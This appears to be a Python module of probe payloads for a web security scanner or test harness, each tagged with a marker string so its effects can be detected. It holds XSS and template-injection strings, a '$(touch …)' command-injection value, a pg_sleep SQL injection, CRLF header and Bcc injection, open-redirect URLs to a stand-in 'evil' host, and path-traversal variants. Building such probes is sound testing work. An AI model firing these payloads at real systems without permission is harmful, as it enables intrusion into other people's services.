"""What attackers send. Each holds the mark, by which its traces are known."""

from __future__ import annotations

from pathlib import Path

MARK = "madoq7"
EVIL = "evil-madoq7.example"
PRODUCT = str(7919 * 7907)
SLEEP = 1.5

# A, B, D and templates in one: quotes, tags, a command, a sum.
BREAKER = f"{MARK}'\"><script>{MARK}()</script>{{{{7919*7907}}}};$(touch {MARK})|{MARK}"
# A where a number is expected: the answer comes late.
SLEEPER = f"1 OR (SELECT 1 FROM pg_sleep({SLEEP})) IS NOT NULL --{MARK}"
# B in an attribute, F and I by line breaks.
LINES = f'{MARK}" autofocus onfocus={MARK}() x="\r\nX-{MARK}: 1\r\nBcc: {MARK}@{EVIL}\r\n\r\n'
SCRIPT_LINK = f"javascript:{MARK}()"
ELSEWHERE = (f"https://{EVIL}/", f"//{EVIL}/", f"/\\{EVIL}/", f"https:{EVIL}")
NOTHING = f"a\0{MARK}"
HUGE = "9" * 40
# For a field alone, while the others are as they were.
ALONE = BREAKER + LINES
EVERYTHING = (BREAKER, SLEEPER, LINES, SCRIPT_LINK, ELSEWHERE[1], NOTHING, HUGE)
LEADS_AWAY = ("next", "url", "return", "redirect", "back", "to", "continue", "goto", "dest")


def climbing(canary: Path) -> tuple[str, ...]:
    """Paths to a file outside: climbing, absolute, encoded once more."""
    up = "../" * 12 + str(canary).lstrip("/")
    return up, str(canary), up.replace("../", "..%2f"), up.replace("../", "....//"), f"{up}\0.png"
